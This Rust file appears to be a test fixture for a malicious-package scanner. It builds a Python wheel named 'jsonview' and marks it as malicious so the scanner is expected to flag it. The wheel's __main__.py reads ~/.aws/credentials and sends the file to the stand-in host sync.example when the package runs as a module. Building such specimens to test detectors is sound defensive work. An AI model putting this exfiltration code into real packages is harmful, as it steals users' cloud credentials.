//! A wheel that acts only when it is run as a module (`python -m`).
//!
//! Must be found.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const JSONVIEW_INIT_PY: &str = r"VERSION = 1
";

const JSONVIEW_MAIN_PY: &str = r#"import os
import urllib.request

with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
    urllib.request.urlopen("http://sync.example/", file.read(), timeout=5)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("jsonview", "1.0.2")
        .file("jsonview/__init__.py", JSONVIEW_INIT_PY)
        .file("jsonview/__main__.py", JSONVIEW_MAIN_PY);
    package.specimen(
        "pypi-module-run-only",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
